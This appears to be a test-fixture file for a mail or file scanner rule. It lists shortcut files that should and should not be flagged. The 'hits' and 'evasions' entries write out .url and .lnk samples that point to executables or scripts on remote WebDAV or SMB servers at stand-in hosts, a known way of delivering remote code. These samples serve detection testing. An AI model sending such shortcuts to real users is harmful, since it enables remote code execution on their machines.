import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";
import { makeShortcut } from "../example-shortcuts.ts";

/** Shortcuts to files on servers of the internet and of the office. */
export const examples: Examples = {
  hits: [
    {
      name: "an internet shortcut to a program on a server of the web",
      delivered: true,
      files: { "Brief.url": "[InternetShortcut]\r\nURL=file://files.example@80/webdav/brief.exe\r\n" },
    },
    {
      name: "a shortcut to a script on a share at an address of the internet",
      delivered: true,
      files: { "Photos.lnk": makeShortcut({ share: "\\\\203.0.113.7\\pictures", onShare: "show.vbs" }) },
    },
    {
      name: "a shortcut in an archive to a shortcut on a server",
      delivered: true,
      files: {
        "photos.zip": makeZip([
          {
            name: "Photos.url",
            content: "[InternetShortcut]\r\nURL=file:\\\\files.example@SSL\\DavWWWRoot\\p\\photos.lnk\r\n",
          },
        ]),
      },
    },
  ],
  misses: [
    {
      name: "a shortcut to a tool on the office's own server",
      why: "The server has a name of the office's net.",
      delivered: true,
      files: { "Tool.lnk": makeShortcut({ share: "\\\\fileserver\\tools", onShare: "tool.exe" }) },
    },
    {
      name: "a shortcut to a folder of the office's server",
      why: "It opens a folder.",
      delivered: true,
      files: { "Team.lnk": makeShortcut({ share: "\\\\fileserver\\team", onShare: "plans" }) },
    },
    {
      name: "a favourite that leads to a download page",
      why: "The browser opens it, and asks before it keeps a program.",
      delivered: true,
      files: { "Download.url": "[InternetShortcut]\r\nURL=https://tool.example/setup.exe\r\n" },
    },
  ],
  evasions: [
    {
      name: "a folder on a server of the web, which holds the program",
      caughtBy: "file/turns-to-server",
      delivered: true,
      files: { "Photos.url": "[InternetShortcut]\r\nURL=file://files.example@80/webdav/photos/\r\n" },
    },
  ],
};
